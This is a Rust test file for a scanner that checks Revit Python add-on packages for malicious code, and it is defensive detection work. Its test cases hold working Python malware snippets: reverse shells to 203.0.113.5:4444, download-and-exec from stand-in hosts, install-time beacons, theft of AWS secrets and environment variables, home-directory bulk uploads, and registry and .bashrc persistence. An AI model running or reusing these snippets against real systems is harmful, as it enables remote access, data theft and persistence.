//! What the scanner reports on small sources written for the purpose:
//! malicious patterns, absurd nesting, performance impact, decoded
//! payloads, bulk uploads, hooks. (The repository's examples, which need
//! their manifests read by the format crate, are scanned in revitpy-check's
//! tests/examples.rs.)

use revitpy_scan::report::{RiskLevel, Severity};
use revitpy_scan::{Entry, ManifestFacts, scan};

#[test]
fn malicious_patterns_are_blocked() {
    let cases: &[(&str, &str)] = &[
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec-decoded"),
        ("import urllib.request as u\nexec(u.urlopen('http://x.example.invalid/p').read())\n", "exec-downloaded"),
        ("from os import system as s\nimport codecs\ns(codecs.decode('rpub', 'rot13'))\n", "process-decoded"),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh', '-i'])\n",
            "reverse-shell",
        ),
        (
            "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\nwinreg.SetValueEx(k, 'x', 0, 1, 'c:\\\\x.exe')\n",
            "persistence-registry",
        ),
        ("import os\ngetattr(os, 'sys' + 'tem')(''.join(map(chr, [108, 115])))\n", "process-decoded"),
        ("print 'py2'\nexec ''.join(reversed('1)(tnirp'))\n", "exec-decoded"),
    ];
    for (src, rule) in cases {
        let entries = [Entry { path: "evil.py", bytes: src.as_bytes() }];
        let report = scan(&ManifestFacts { name: "evil".into(), ..ManifestFacts::default() }, &entries);
        assert!(report.risk_level >= RiskLevel::High, "{rule}: {src}\n{:#?}", report.findings);
        assert!(report.findings.iter().any(|f| f.rule == *rule), "{rule} missing: {:#?}", report.findings);
    }
    let pyc = [Entry { path: "hidden.pyc", bytes: b"\x00\x01" }];
    assert!(scan(&ManifestFacts::default(), &pyc).risk_level >= RiskLevel::High);
}

#[test]
fn absurd_nesting_is_a_finding_not_a_crash() {
    // Deep enough to overflow a recursive walk on a 2 MiB stack.
    for src in [
        format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000)),
        format!("x = {}\n", vec!["'a'"; 50_000].join(" + ")),
        format!("exec({}'x'{})\n", "f(".repeat(20_000), ")".repeat(20_000)),
    ] {
        let report = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || scan(&ManifestFacts::default(), &[Entry { path: "deep.py", bytes: src.as_bytes() }]))
            .unwrap()
            .join()
            .expect("the scan does not overflow the stack");
        assert!(report.findings.iter().any(|f| f.rule == "excessive-nesting"), "{:#?}", report.findings);
        assert!(report.risk_level >= RiskLevel::High);
    }
}

#[test]
fn impact_counts_events_import_time_work_and_heavy_imports() {
    let impact = |src: &str, hooks: Vec<String>| {
        let entries = [Entry { path: "startup.py", bytes: src.as_bytes() }];
        let facts =
            ManifestFacts { name: "x".into(), declared_impact: "low".into(), hooks, ..ManifestFacts::default() };
        scan(&facts, &entries)
    };
    let idle = impact("def on_idle(sender, args):\n    pass\n__revit__.Idling += on_idle\n", vec![]);
    assert_eq!(idle.impact.computed, "high", "{:?}", idle.impact);
    assert!(idle.impact.reasons.iter().any(|r| r.contains("Idling")), "{:?}", idle.impact.reasons);
    assert!(idle.findings.iter().any(|f| f.rule == "impact-understated"), "declared low, looks high");

    let opened = impact("def h(s, a):\n    pass\napp.add_DocumentOpened(h)\n", vec![]);
    assert_eq!(opened.impact.computed, "medium", "{:?}", opened.impact);

    let loop_at_import =
        impact("import json\ncache = {}\nfor i in range(1000):\n    cache[i] = json.dumps(i)\n", vec![]);
    assert_eq!(loop_at_import.impact.computed, "medium", "{:?}", loop_at_import.impact);
    assert!(loop_at_import.impact.reasons.iter().any(|r| r.contains("import time")));

    let heavy = impact("import numpy as np\n", vec![]);
    assert_eq!(heavy.impact.computed, "high");

    let hooks = impact("x = 1\n", vec!["hooks/post_install.py".into()]);
    assert_eq!(hooks.impact.computed, "medium");

    let quiet = impact("def run(doc):\n    return doc.Title\n", vec![]);
    assert_eq!(quiet.impact.computed, "low", "{:?}", quiet.impact);
    assert!(!quiet.findings.iter().any(|f| f.rule == "impact-understated"));
}

#[test]
fn decoded_payloads_are_read_and_show_in_the_report() {
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuOS9zdGFnZTInKQo='))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "loader.py", bytes: src.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "exec-decoded"), "{:#?}", report.findings);
    assert!(
        report.capabilities.network.iter().any(|n| n.contains("203.0.113.9/stage2")),
        "the hidden download shows: {:?}",
        report.capabilities
    );
    assert!(
        report.findings.iter().any(|f| f.file == "loader.py:2 (decoded)" && f.rule == "network"),
        "{:#?}",
        report.findings
    );
}

#[test]
fn walked_files_sent_out_are_a_bulk_upload() {
    let upload = |url: &str| {
        let src = format!(
            "import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        with open(os.path.join(root, f), 'rb') as fh:\n            requests.post('{url}', files={{'f': fh}})\n"
        );
        scan(&ManifestFacts::default(), &[Entry { path: "sync.py", bytes: src.as_bytes() }])
    };
    let company = upload("https://backup.example.com/upload");
    let f = company.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
    assert_eq!(f.severity, Severity::Medium);
    let raw_ip = upload("http://203.0.113.50/u");
    let f = raw_ip.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn hooks_that_run_code_and_assemblies_from_odd_paths_are_reported() {
    let facts =
        ManifestFacts { name: "x".into(), hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
    let hook = b"import subprocess\nsubprocess.run(['regsvr32', '/s', 'x.dll'])\n";
    let report = scan(&facts, &[Entry { path: "hooks/post_install.py", bytes: hook }]);
    assert!(
        report.findings.iter().any(|f| f.rule == "hook-runs-code" && f.message.contains("starts processes")),
        "{:#?}",
        report.findings
    );

    let clr = b"import clr, os, tempfile\nclr.AddReference('RevitAPI')\nclr.AddReference(os.path.join(tempfile.gettempdir(), 'x.dll'))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "a.py", bytes: clr }]);
    let odd: Vec<usize> = report.findings.iter().filter(|f| f.rule == "clr-odd-path").map(|f| f.line).collect();
    assert_eq!(odd, [3], "only the path from the temp folder: {:#?}", report.findings);

    let write = b"open('report.csv', 'w').write('a,b')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "w.py", bytes: write }]);
    assert!(report.findings.iter().any(|f| f.rule == "file-write" && f.severity == Severity::Info));
}

/// Sockets and processes in one file, as HTTP libraries, servers and terminal
/// tools have them, are not a reverse shell (issue 19: `requests`, `urllib3`,
/// `werkzeug` and `pexpect` were critical); the socket handed to a shell is.
#[test]
fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process() {
    let benign = [
        // An HTTP client: checks a socket's descriptor, starts a helper with a `cmd` variable.
        "import socket, subprocess, select\n\
         def is_connection_dropped(conn):\n    sock = socket.create_connection(('example.org', 80))\n    \
         return select.select([sock.fileno()], [], [], 0.0)[0]\n\
         def run(cmd):\n    return subprocess.check_output(cmd, stdin=subprocess.PIPE)\n",
        // A server that forks workers and passes them a listening socket's number.
        "import socket, os, subprocess\n\
         def serve(addr):\n    s = socket.socket()\n    s.bind(addr)\n    s.listen(5)\n    \
         os.environ['LISTEN_FD'] = str(s.fileno())\n    subprocess.Popen(['gunicorn-worker'])\n",
    ];
    for src in benign {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
        assert!(!report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
    }
    let shells = [
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
         subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno())\n",
        "import socket, pty, os\ns = socket.create_connection(('203.0.113.5', 4444))\n\
         [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
    ];
    for src in shells {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: src.as_bytes() }]);
        assert!(report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
        assert_eq!(report.risk_level, RiskLevel::Critical);
    }
}

/// Install-time beacons (issue 19): who and where a package is installed,
/// sent home while it installs. Written for this test, not taken from a sample.
#[test]
fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
    let beacon = "import getpass, socket, os, json\n\
                  from urllib import request\n\
                  from setuptools import setup\n\
                  def ping():\n    info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'd': os.getcwd()}\n    \
                  request.urlopen(request.Request('https://collector.example.invalid/i', data=json.dumps(info).encode()))\n\
                  ping()\n\
                  setup(name='thing', version='1.0')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: beacon.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!((f.severity, report.risk_level), (Severity::Critical, RiskLevel::Critical));

    // An environment variable naming the user, sent by requests: the same.
    let env = "import os, requests\nrequests.post('http://203.0.113.9/b', json={'who': os.environ['USERNAME']})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/setup.py", bytes: env.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);

    // From an rpyx install hook: a beacon too.
    let hooked = ManifestFacts { hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
    let hook = "import platform, requests\nrequests.post('https://collector.example.invalid', data=platform.node())\n";
    let report = scan(&hooked, &[Entry { path: "hooks/post_install.py", bytes: hook.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "install-beacon" && f.severity == Severity::Critical));

    // The same call in a library function a user calls: reported, not a threat.
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/telemetry.py", bytes: hook.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "host-identity-sent").expect("reported");
    assert_eq!(f.severity, Severity::Medium);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
}

/// A downloaded file made executable and a line added to the shell's
/// start-up file (issue 19's download-then-run chains). Written for the test.
#[test]
fn a_download_made_executable_and_a_login_hook_are_reported() {
    let src = "import os, stat, urllib.request\n\
               data = urllib.request.urlopen('http://203.0.113.7/tool').read()\n\
               with open('/tmp/.helper', 'wb') as f:\n    f.write(data)\n\
               os.chmod('/tmp/.helper', os.stat('/tmp/.helper').st_mode | stat.S_IEXEC)\n\
               rc = open(os.path.expanduser('~/.bashrc'), 'a')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"download-then-run"), "{rules:?}");
    assert_eq!(report.risk_level, RiskLevel::Critical);
    let rc = "import os\nwith open('/home/u/.bashrc', 'a') as f:\n    f.write('~/.x &')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: rc.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "persistence-shell-startup" && f.severity == Severity::High));
    // Reading a shell start-up file, or making a file executable that was not
    // downloaded, is neither.
    let benign = "import os\nprint(open('/home/u/.bashrc').read())\nos.chmod('run.sh', 0o755)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: benign.as_bytes() }]);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
}

/// Where secrets go sets the level (issue 19): to an address the code spells
/// out or hides it is critical; to one only configuration names (a cloud SDK
/// signing in to its own service) it is high.
#[test]
fn sending_secrets_is_critical_when_the_code_chose_where() {
    let chosen = [
        "import os, requests\nHOOK = 'https://collector.example.invalid/x'\nrequests.post(HOOK, data=os.getenv('AWS_SECRET_ACCESS_KEY'))\n",
        "import os, requests, base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=').decode()\nrequests.post(u, json=dict(os.environ))\n",
        "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 443))\ns.sendall(str(dict(os.environ)).encode())\n",
    ];
    for src in chosen {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
        assert!(
            report.findings.iter().any(|f| f.rule == "exfiltration" && f.severity == Severity::Critical),
            "{src}\n{:#?}",
            report.findings
        );
    }
    let configured = "import os\nclass Client:\n    def __init__(self, endpoint, session):\n        \
                      self.endpoint, self.session = endpoint, session\n    \
                      def call(self):\n        token = os.getenv('SERVICE_API_TOKEN')\n        \
                      return self.session.post(self.endpoint, headers={'Authorization': token})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "client.py", bytes: configured.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::High);
}

/// A payload decoded from an install-time file runs at install too: the
/// beacon inside `exec(b64decode(...))` in setup.py is an install beacon.
#[test]
fn a_payload_decoded_in_setup_py_runs_at_install_time() {
    let inner =
        "import getpass, requests\nrequests.post('https://collector.example.invalid', data=getpass.getuser())\n";
    let encoded = base64_of(inner.as_bytes());
    let src = format!("import base64\nexec(base64.b64decode('{encoded}'))\n");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert!(f.file.starts_with("setup.py:") && f.file.ends_with("(decoded)"), "{}", f.file);
}

/// Standard base64, written here so the test needs no crate for it.
fn base64_of(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
